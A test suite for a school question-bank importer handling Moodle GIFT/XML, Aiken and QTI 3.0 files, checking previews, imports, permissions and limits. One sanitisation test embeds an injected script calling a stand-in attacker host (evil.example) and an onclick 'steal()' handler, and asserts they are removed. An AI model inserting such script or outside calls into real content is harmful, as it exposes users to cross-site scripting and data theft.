import { readdirSync, readFileSync } from 'node:fs';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isPostgresUrl } from '../../../db/dialect.js';
import {
  assessmentApi,
  makeAssessmentWorld,
  QUESTION,
  signInAssessment,
  type AssessmentWorld,
  type AssessWho,
} from '../../../test/assessment-factories.js';
import { makeContentPlace, type ContentPlace } from '../../../test/content-factories.js';
import { interopFixturePath, readInteropFixture } from '../../../test/interop-fixtures.js';
import { call, createTestApp, type TestApp } from '../../../test/test-app.js';

// Importing another system's question bank: previewed question by question, then imported all
// together into the chapters the teacher picks, through the same checks as saving one question.

let t: TestApp;
let world: AssessmentWorld;
let token: Record<AssessWho, string>;
let api: ReturnType<typeof assessmentApi>;
let second: ContentPlace;

const PREVIEW = `${QUESTION}/question/import/preview`;
const APPLY = `${QUESTION}/question/import/apply`;
const base64 = (data: Uint8Array | string) => Buffer.from(data).toString('base64');
// A 1x1 PNG, as Moodle embeds a figure.
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

beforeAll(async () => {
  t = await createTestApp();
  world = await makeAssessmentWorld(t);
  second = await makeContentPlace(t.db, { subject: 'Mathematics' });
  token = await signInAssessment(t, world);
  api = assessmentApi(t);
});
afterAll(() => t.close());

const previewIn = (language: string, who: AssessWho, file: Uint8Array, fileName: string) =>
  call(t.app, 'POST', PREVIEW, {
    token: token[who],
    language,
    body: { file_name: fileName, file_base64: base64(file) },
  });

async function previewed(who: AssessWho, file: Uint8Array | string, fileName: string, extra: object = {}) {
  const res = await api.post(PREVIEW, token[who], { file_name: fileName, file_base64: base64(file), ...extra });
  if (res.status !== 200) throw new Error(`preview: ${res.status} ${JSON.stringify(res.body)}`);
  return res.body.data;
}

const apply = (who: AssessWho, previewId: string, extra: object = {}) =>
  api.post(APPLY, token[who], { preview_id: previewId, syllabus_id: world.place.chapterId, difficulty: 2, ...extra });

const details = async (ids: number[]) => {
  const res = await api.post(`${QUESTION}/question/manualQuestionDetailsByIdsUniversity`, token.teacher, {
    question_data: ids.map((question_id) => ({ question_id })),
  });
  return res.body.data.ques_data as Record<string, unknown>[];
};

const bankSize = async () => {
  const row = await t.db
    .selectFrom('questions')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .where('school_id', '=', world.school.school_id)
    .executeTakeFirstOrThrow();
  return Number(row.n);
};

describe('preview of the public fixtures', () => {
  it("Moodle's GIFT fixture: each question imported, changed to fit (with notes) or refused and why", async () => {
    const data = await previewed(
      'teacher',
      readInteropFixture('moodle-gift', 'questions.gift.txt'),
      'questions.gift.txt',
    );
    expect(data.format).toBe('gift');
    expect(data.counts).toEqual({ imported: 6, changed: 2, refused: 1 });
    const refused = data.questions.find((q: { outcome: string }) => q.outcome === 'refused');
    expect(refused.notes[0]).toBe('The file could not be read here (line 31).');
    const colours = data.questions.find((q: { title: string }) => q.title === 'colours');
    expect(colours).toMatchObject({ outcome: 'changed', question_type: 'multiple' });
    expect(colours.notes[0]).toContain('all its right choices together');
  });

  it("Moodle's XML fixture: its questions with their category paths", async () => {
    const data = await previewed(
      'teacher',
      readInteropFixture('moodle-xml', 'nested_categories_with_questions.xml'),
      'nested_categories_with_questions.xml',
    );
    expect(data).toMatchObject({ format: 'moodle-xml', counts: { imported: 5, changed: 0, refused: 0 } });
    expect(data.categories).toEqual(['Iota', 'Iota / Kappa', 'Iota / Kappa / Lambda', 'Iota / Mu']);
  });

  it('every GIFT grammar file: each of its questions accounted for', async () => {
    const files = readdirSync(interopFixturePath('gift-grammar')).filter((f) => f.endsWith('.gift'));
    for (const file of files) {
      const expected = (
        JSON.parse(readFileSync(interopFixturePath('gift-grammar', file.replace(/\.gift$/, '.json')), 'utf8')) as {
          type: string;
        }[]
      ).filter((q) => q.type !== 'Category');
      const res = await api.post(PREVIEW, token.teacher, {
        format: 'gift',
        file_name: file,
        file_base64: base64(readInteropFixture('gift-grammar', file)),
      });
      expect(res.status, file).toBe(200);
      const { imported, changed, refused } = res.body.data.counts;
      expect(imported + changed + refused, file).toBe(expected.length);
      expect(refused, file).toBe(expected.filter((q) => q.type === 'Description').length);
    }
  });

  it('takes out a figure the text names but the file does not hold, and says so', async () => {
    const xml = `<quiz><question type="essay"><name><text>Lost</text></name><questiontext format="html">
      <text><![CDATA[<p>Describe <img src="@@PLUGINFILE@@/gone.png" alt="x"> this.</p>]]></text></questiontext></question></quiz>`;
    const data = await previewed('teacher', xml, 'lost.xml');
    expect(data.format).toBe('moodle-xml');
    expect(data.questions[0]).toMatchObject({
      outcome: 'changed',
      stem: 'Describe  this.',
      notes: ['The text names a picture the file does not hold; it was left out.'],
    });
  });

  it('says why in the language of the request', async () => {
    const res = await previewIn('hi', 'teacher', readInteropFixture('moodle-gift', 'questions.gift.txt'), 'q.gift');
    const refused = res.body.data.questions.find((q: { outcome: string }) => q.outcome === 'refused');
    expect(refused.notes[0]).toBe('फ़ाइल यहाँ पढ़ी नहीं जा सकी (पंक्ति 31)।');
  });
});

describe('applying a preview', () => {
  it('stores the importable questions in the chosen chapters; they read back with their keys', async () => {
    const data = await previewed(
      'teacher',
      readInteropFixture('moodle-xml', 'nested_categories_with_questions.xml'),
      'bank.xml',
    );
    const res = await apply('teacher', data.preview_id, {
      categories: [{ category: 'Iota / Kappa', syllabus_id: second.chapterId }],
    });
    expect(res.status).toBe(200);
    expect(res.body.data.count).toBe(5);
    const read = await details(res.body.data.question_ids);
    expect(read.map((q) => [q.question_type, q.chapter_id, q.school_id])).toEqual([
      ['true_false', world.place.chapterId, world.school.school_id],
      ['subjective', second.chapterId, world.school.school_id],
      ['true_false', second.chapterId, world.school.school_id],
      ['true_false', world.place.chapterId, world.school.school_id],
      ['true_false', world.place.chapterId, world.school.school_id],
    ]);
    expect(read[0]).toMatchObject({
      stem: 'Testing Iota Question',
      marks: 1,
      difficulty: 2,
      answer: { is_true: true },
    });
  });

  it('a refused question does not block the others, and a preview is imported once', async () => {
    const data = await previewed('teacher', readInteropFixture('moodle-gift', 'questions.gift.txt'), 'q.gift');
    const before = await bankSize();
    const res = await apply('teacher', data.preview_id);
    expect(res.body.data.count).toBe(8);
    expect(await bankSize()).toBe(before + 8);
    const [match] = await details([res.body.data.question_ids[1]]);
    expect(match).toMatchObject({ question_type: 'match', stem: 'Match the **activity** to the description.' });
    const again = await apply('teacher', data.preview_id);
    expect(again.status).toBe(409);
    expect(again.body.reason).toBe('questionImport.spent');
    expect(await bankSize()).toBe(before + 8);
  });

  it('stores embedded figures where the bank keeps uploads, and no script or outside address', async () => {
    const xml = `<?xml version="1.0"?><quiz><question type="truefalse"><name><text>Dot</text></name>
      <questiontext format="html"><text><![CDATA[<p onclick="steal()">See <img src="@@PLUGINFILE@@/dot.png" alt="a dot"><script>fetch('http://evil.example')</script><img src="https://evil.example/x.png"></p>]]></text>
      <file name="dot.png" path="/" encoding="base64">${PNG}</file></questiontext>
      <answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer></question></quiz>`;
    const data = await previewed('teacher', xml, 'figure.xml');
    expect(data.questions[0]).toMatchObject({ outcome: 'changed', figures: 1 });
    const res = await apply('teacher', data.preview_id);
    const [q] = await details(res.body.data.question_ids);
    const images = q!.images as { key: string; url: string }[];
    expect(images).toHaveLength(1);
    expect(images[0]!.key.startsWith(`uploads/${world.school.school_id}/`)).toBe(true);
    expect(q!.stem).toBe(`See ![a dot](${images[0]!.key})`);
    expect(JSON.stringify(q)).not.toMatch(/<script|onclick|steal|evil\.example/);
    const file = await t.app.inject({ method: 'GET', url: images[0]!.url });
    expect(file.statusCode).toBe(200);
  });

  it('is all or nothing when the database refuses one question', async () => {
    const gift = ['::one:: 1 + 1? {=2 ~3}', '::two:: BREAK-HERE {=yes ~no}', '::three:: 2 + 2? {=4 ~5}'].join('\n\n');
    const data = await previewed('teacher', gift, 'three.gift');
    const before = await bankSize();
    const postgres = isPostgresUrl(process.env.TEST_DATABASE_URL);
    if (postgres) {
      await sql`CREATE FUNCTION qi_refuse() RETURNS trigger AS $$ BEGIN IF NEW.stem LIKE '%BREAK-HERE%' THEN RAISE EXCEPTION 'refused by the test'; END IF; RETURN NEW; END $$ LANGUAGE plpgsql`.execute(
        t.db,
      );
      await sql`CREATE TRIGGER qi_refuse BEFORE INSERT ON question_texts FOR EACH ROW EXECUTE FUNCTION qi_refuse()`.execute(
        t.db,
      );
    } else {
      await sql`CREATE TRIGGER qi_refuse BEFORE INSERT ON question_texts WHEN NEW.stem LIKE '%BREAK-HERE%' BEGIN SELECT RAISE(ABORT, 'refused by the test'); END`.execute(
        t.db,
      );
    }
    const failed = await apply('teacher', data.preview_id);
    await sql`DROP TRIGGER qi_refuse${sql.raw(postgres ? ' ON question_texts' : '')}`.execute(t.db);
    expect(failed.status).toBe(500);
    expect(await bankSize()).toBe(before);
    // The failed import left the preview usable.
    const retried = await apply('teacher', data.preview_id);
    expect(retried.body.data.count).toBe(3);
    expect(await bankSize()).toBe(before + 3);
  });
});

describe('a QTI 3.0 package', () => {
  it('exported by one bank imports into it again, detected from the zip, with the same keys', async () => {
    const first = await previewed(
      'teacher',
      readInteropFixture('moodle-xml', 'nested_categories_with_questions.xml'),
      'bank.xml',
    );
    const stored = (await apply('teacher', first.preview_id)).body.data.question_ids as number[];
    const exported = await t.app.inject({
      method: 'POST',
      url: `${QUESTION}/question/export`,
      headers: { authorization: `Bearer ${token.teacher}` },
      payload: { format: 'qti3', question_ids: stored },
    });
    expect(exported.statusCode).toBe(200);
    const again = await previewed('teacher', new Uint8Array(exported.rawPayload), 'from-another-system.zip');
    expect(again.format).toBe('qti3');
    expect(again.questions.map((q: { outcome: string }) => q.outcome)).toEqual(stored.map(() => 'imported'));
    const res = await apply('teacher', again.preview_id);
    expect(res.status).toBe(200);
    const [before, after] = [await details(stored), await details(res.body.data.question_ids)];
    const keyOf = (q: Record<string, unknown>) => [q.question_type, q.stem, q.marks, q.answer];
    expect(after.map(keyOf)).toEqual(before.map(keyOf));
  });
});

describe('who may import', () => {
  it("another school's teacher cannot import your preview (404); a learner cannot call either", async () => {
    const data = await previewed('teacher', 'Q?\nA. x\nB. y\nANSWER: A\n', 'one.txt');
    expect((await apply('otherTeacher', data.preview_id)).status).toBe(404);
    expect((await apply('a1', data.preview_id)).status).toBe(403);
    const byLearner = await api.post(PREVIEW, token.a1, {
      file_name: 'one.txt',
      file_base64: base64('Q?\nA. x\nB. y\nANSWER: A\n'),
    });
    expect(byLearner.status).toBe(403);
    const intoOther = await api.post(PREVIEW, token.otherTeacher, {
      school_id: world.school.school_id,
      file_name: 'one.txt',
      file_base64: base64('Q?\nA. x\nB. y\nANSWER: A\n'),
    });
    expect(intoOther.status).toBe(404);
    expect((await apply('teacher', data.preview_id)).status).toBe(200);
  });

  it('a school admin imports into the school’s bank', async () => {
    const data = await previewed('admin', 'Q?\nA. x\nB. y\nANSWER: B\n', 'admin.txt');
    const res = await apply('admin', data.preview_id);
    const [q] = await details(res.body.data.question_ids);
    expect(q).toMatchObject({ school_id: world.school.school_id, answer: { option_ids: ['b'] } });
  });
});

describe('limits, named clearly', () => {
  it('refuses a file over 10 MB, naming the file', async () => {
    const res = await api.post(PREVIEW, token.teacher, {
      format: 'gift',
      file_name: 'big.gift',
      file_base64: base64(new Uint8Array(10 * 1024 * 1024 + 1).fill(32)),
    });
    expect(res.status).toBe(400);
    expect(res.body.errors[0]).toMatchObject({ field: 'file_base64' });
    expect(res.body.message).toContain('10 MB');
  });

  it('refuses a file of more than 2,000 questions, saying how many it has', async () => {
    const aiken = Array.from({ length: 2001 }, (_, i) => `Q${i}?\nA. x\nB. y\nANSWER: A\n`).join('\n');
    const res = await api.post(PREVIEW, token.teacher, {
      format: 'aiken',
      file_name: 'many.txt',
      file_base64: base64(aiken),
    });
    expect(res.status).toBe(400);
    expect(res.body.message).toContain('2001');
    expect(res.body.message).toContain('2000');
  });

  it('a chapter that does not exist is named, and nothing is stored', async () => {
    const data = await previewed('teacher', 'Q?\nA. x\nB. y\nANSWER: A\n', 'one.txt');
    const before = await bankSize();
    const res = await apply('teacher', data.preview_id, { syllabus_id: 999_999_999 });
    expect(res.status).toBe(400);
    expect(res.body.errors[0]).toMatchObject({ field: 'syllabus_id' });
    expect(await bankSize()).toBe(before);
  });
});
